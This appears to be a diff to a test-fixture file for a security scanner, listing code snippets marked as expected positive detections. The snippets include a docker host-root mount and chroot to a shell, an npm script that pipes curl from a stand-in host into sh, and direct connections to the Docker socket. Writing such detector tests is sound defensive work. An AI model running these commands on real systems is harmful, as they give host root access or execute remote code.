@@ -575,3 +575,10 @@ const args = ['run', '--rm', '-v', '/:/host', 'alpine', 'chroot', '/host', 'sh']
 execFileSync('docker', args);
 //@ pos npm pkg set of a script, which npm run then runs in sh
 require('child_process').execFileSync('npm', ['pkg', 'set', 'scripts.x=curl -s http://e.example | sh']);
+//@ pos net.connect to the Docker socket held in a name
+const SOCK = '/var/run/docker.sock';
+require('net').connect(SOCK);
+//@ pos the Docker socket assigned to a request's socketPath
+const opts = { path: '/containers/json' };
+opts.socketPath = '/run/docker.sock';
+require('http').get(opts);
